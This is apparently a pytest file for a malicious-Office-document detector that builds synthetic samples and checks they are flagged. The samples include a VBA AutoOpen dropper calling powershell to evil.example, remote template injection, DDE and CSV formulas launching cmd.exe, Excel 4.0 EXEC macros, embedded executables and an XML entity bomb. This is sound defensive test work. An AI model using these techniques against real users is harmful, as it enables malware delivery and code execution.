"""Office documents that start, fetch, embed or hide."""

from __future__ import annotations

import contextlib
import os

import pytest
from hypothesis import given
from hypothesis import strategies as st

from drystone.triage.files.findings import BrokenError
from drystone.triage.files.office.compression import decompress
from hostile import office, programs
from hostile.archives import zipped
from hostile.compound import compound
from hostile.looking import look

DROPPER = """Sub AutoOpen()
    Set s = CreateObject("WScript.Shell")
    s.Run "powershell -nop http://evil.example/a"
End Sub
"""


@given(st.binary(max_size=3_000) | st.text("ab\r\n ", max_size=9_000).map(str.encode))
def test_what_was_squeezed_comes_back(data: bytes) -> None:
    assert decompress(office.squeezed(data), len(data) + 10) == data


@given(st.binary(max_size=500))
def test_any_container_gives_at_most_what_was_asked(data: bytes) -> None:
    with contextlib.suppress(BrokenError):
        assert len(decompress(b"\x01" + data, 100)) <= 100


def test_a_macro_that_starts_by_itself_is_told_with_its_words() -> None:
    project = office.vba_project({"ThisDocument": DROPPER, "Module1": "Sub Quiet()\nEnd Sub\n"})
    looked = look(project, "vbaProject.bin")
    assert looked.values("macros")["modules"] == "ThisDocument, Module1"
    assert looked.values("macro-starts-by-itself")["triggers"] == "AutoOpen"
    assert "WScript.Shell" in looked.values("macro-runs-programs")["calls"]
    assert "powershell" in looked.values("macro-acts-at-once")["calls"]
    assert "http://evil.example/a" in looked.targets
    assert "Sub AutoOpen()" in looked.inspection.text


def test_macros_of_a_package_go_inside() -> None:
    project = office.vba_project({"M": DROPPER})
    looked = look(office.document(parts={"word/vbaProject.bin": project}), "a.docm")
    assert looked.inside == {"word/vbaProject.bin": project}


def test_an_honest_macro_is_a_macro_and_no_attack() -> None:
    """Sheets that fill themselves on opening are common in every office."""
    source = 'Private Sub Workbook_Open()\n  Set d = CreateObject("Scripting.Dictionary")\nEnd Sub\n'
    looked = look(office.vba_project({"ThisWorkbook": source}), "vbaProject.bin")
    assert looked.kinds == {"macros", "macro-starts-by-itself", "macro-uses-other-programs"}
    assert "high" not in looked.severities


def test_a_comment_is_no_command() -> None:
    quiet = office.vba_project({"M": "Sub Add()\n' Shell CreateObject AutoOpen\nEnd Sub\n"})
    assert look(quiet, "vbaProject.bin").kinds == {"macros"}


def test_macros_are_found_without_their_list() -> None:
    looked = look(office.vba_project({"M": DROPPER}, listed=False), "vbaProject.bin")
    assert "macro-starts-by-itself" in looked.kinds


def test_text_that_was_swapped_after_compiling_is_told() -> None:
    stomped = office.vba_project({"M": "Sub Add()\nEnd Sub\n"}, compiled=b"\x05\x00Shell\x00CreateObject\x00")
    assert "macro-source-differs" in look(stomped, "vbaProject.bin").kinds
    honest = office.vba_project({"M": DROPPER}, compiled=b"\x05\x00CreateObject\x00")
    assert "macro-source-differs" not in look(honest, "vbaProject.bin").kinds


def test_a_template_from_elsewhere_is_told() -> None:
    rels = office.relations(("attachedTemplate", "https://evil.example/t.dotm"), ("hyperlink", "https://a.example/"))
    looked = look(office.document(parts={"word/_rels/settings.xml.rels": rels}), "a.docx")
    assert looked.values("template-from-elsewhere")["target"] == "https://evil.example/t.dotm"
    assert looked.targets == {"https://evil.example/t.dotm", "https://a.example/"}
    own = office.relations(("attachedTemplate", "https://fenwick.sharepoint.com/templates/letter.dotx"))
    assert look(office.document(parts={"word/_rels/settings.xml.rels": own}), "a.docx").kinds == {"template-from-share"}
    quiet = office.relations(("attachedTemplate", "file:///C:/Users/a/Normal.dotm"))
    assert look(office.document(parts={"word/_rels/settings.xml.rels": quiet}), "a.docx").kinds == set()


def test_a_linked_page_is_told() -> None:
    rels = office.relations(("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x"))
    assert "loads-from-elsewhere" in look(office.document(parts={"word/_rels/document.xml.rels": rels}), "a.docx").kinds


def test_a_field_spread_over_runs_is_read_as_one() -> None:
    looked = look(office.document(office.field("DD", "EAUTO c:\\\\windows\\\\cmd.exe ", "/k calc")), "a.docx")
    assert "cmd.exe" in looked.values("data-exchange-starts-program")["command"]


def test_the_words_of_a_document_are_kept() -> None:
    looked = look(office.document(office.paragraph("The password is Sommer2026")), "a.docx")
    assert looked.inspection.text == "The password is Sommer2026"


def test_old_macro_sheets_are_read_in_every_form() -> None:
    listed = '<sheets><sheet name="Macro1" state="veryHidden"/></sheets>'
    listed += '<definedNames><definedName name="_xlnm.Auto_Open">x</definedName></definedNames>'
    parts = {"xl/macrosheets/sheet1.xml": office.sheet("EXEC(&quot;calc.exe&quot;)", "HALT()")}
    xlsm = look(office.workbook(listed, parts), "a.xlsm")
    assert {"old-macro-sheet", "sheet-hidden", "formula-starts-by-itself", "old-macro-calls"} <= xlsm.kinds
    old = look(office.old_workbook(calls=(110, 150)), "a.xls")
    assert old.values("old-macro-sheet")["state"] == "veryHidden"
    assert old.values("old-macro-calls")["calls"] == "CALL, EXEC"
    assert old.values("formula-starts-by-itself")["defined"] == "Auto_Open"
    assert "calc" in old.inspection.text
    sylk = look(b'ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EEXEC("calc")\nE\n', "a.slk")
    assert {"old-macro-sheet", "formula-starts-by-itself", "old-macro-calls"} <= sylk.kinds


def test_an_ordinary_workbook_is_quiet() -> None:
    parts = {"xl/worksheets/sheet1.xml": office.sheet("SUM(A1:A9)", "IF(B1=1,2,3)")}
    assert look(office.workbook('<sheets><sheet name="Tab"/></sheets>', parts), "a.xlsx").kinds == set()


def test_dde_is_told_wherever_it_stands() -> None:
    old = look(office.old_workbook(dde="cmd\x03/c calc"), "a.xls")
    assert old.values("data-exchange-starts-program")["command"] == "cmd|/c calc"
    assert "formula-starts-program" in look(b"name,sum\r\nx,=cmd|'/c calc'!A0\r\n", "a.csv").kinds
    assert "formula-reaches-out" in look(b'a;=WEBSERVICE("https://a.example/"&A1)\n', "a.csv").kinds
    feed = look(b"a;=PRICES|'EURUSD'!BID\n", "a.csv")
    assert feed.kinds == {"data-exchange"}
    assert look(b"name,sum\r\nx,-12\r\ny,+49 30 1\r\nz,@home\r\n", "a.csv").kinds == set()


def test_embedded_files_go_inside_under_their_name() -> None:
    ole = compound({"\x01Ole10Native": office.package_stream("order.exe", programs.PE)})
    looked = look(ole, "oleObject1.bin")
    assert looked.inside == {"order.exe": programs.PE}
    assert looked.values("embedded-file")["member"] == "order.exe"
    package = look(office.document(parts={"word/embeddings/oleObject1.bin": ole}), "a.docx")
    assert "embedded-object" in package.kinds
    assert package.inside == {"word/embeddings/oleObject1.bin": ole}


def test_objects_that_attacks_have_used_are_told() -> None:
    equation = compound({"WordDocument": b"x", "ObjectPool/_1/Equation Native": b"x"})
    assert look(equation, "a.doc").kinds == {"equation-object"}
    by_class = compound({"a/b": b"x"}, {"a": "25336920-03F9-11CF-8FD0-00AA00686F13"})
    assert "MSHTML" in look(by_class, "a.doc").values("dangerous-object")["object"]


@pytest.mark.parametrize("noise", ["", "{\\junk 12}", "\\'41 ", "\r\n"])
def test_an_object_of_rtf_is_found_through_noise(noise: str) -> None:
    native = office.package_stream("run.exe", programs.PE)[4:]
    if "12" in noise:
        noise = "{\\junk }"
    looked = look(office.rtf_object("Package", native, noise=noise), "a.doc")
    assert looked.inside == {"run.exe": programs.PE}
    assert "object-updates-itself" in looked.kinds


def test_rtf_objects_and_templates_are_told() -> None:
    assert "dangerous-object" in look(office.rtf_object("Equation.3", b"x" * 50), "a.doc").kinds
    field = b'{\\field{\\*\\fldinst HYPERLINK "https://a.example"}}'
    rtf = b"{\\rtf1{\\*\\template http://evil.example/t.rtf}" + field + b"Hello \\'e4}"
    looked = look(rtf, "a.rtf")
    assert looked.values("template-from-elsewhere")["target"] == "http://evil.example/t.rtf"
    assert "https://a.example" in looked.targets
    assert "Hello ä" in looked.inspection.text


def test_a_lock_that_office_opens_by_itself_is_opened() -> None:
    plain = office.document(office.paragraph("hidden words"), {"word/theme.xml": os.urandom(5_000)})
    looked = look(office.locked(plain, "VelvetSweatshop"), "a.docx")
    assert looked.kinds == {"document-opens-with-known-password"}
    assert looked.inside["a.docx"][:4] == b"PK\x03\x04"
    other = office.locked(plain, "Sommer2026")
    assert look(other, "a.docx").kinds == {"document-locked"}
    opened = look(other, "a.docx", passwords=("Sommer2026",))
    assert opened.kinds == {"document-opened-with-written-password"}
    assert look(opened.inside["a.docx"], "a.docx").inspection.text == "hidden words"


def test_files_in_a_notebook_are_told() -> None:
    looked = look(office.onenote({"invoice.hta": b"<script>x</script>"}), "a.one")
    assert looked.inside == {"invoice.hta": b"<script>x</script>"}
    assert looked.values("notebook-holds-files")["count"] == "1"


def test_outlooks_own_envelope_opens() -> None:
    assert look(office.tnef({"a.txt": b"words"}), "winmail.dat").inside == {"a.txt": b"words"}


def test_entities_are_refused() -> None:
    bomb = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    looked = look(zipped({"[Content_Types].xml": b"<x/>", "word/document.xml": bomb}), "a.docx")
    assert "content-broken" in looked.kinds
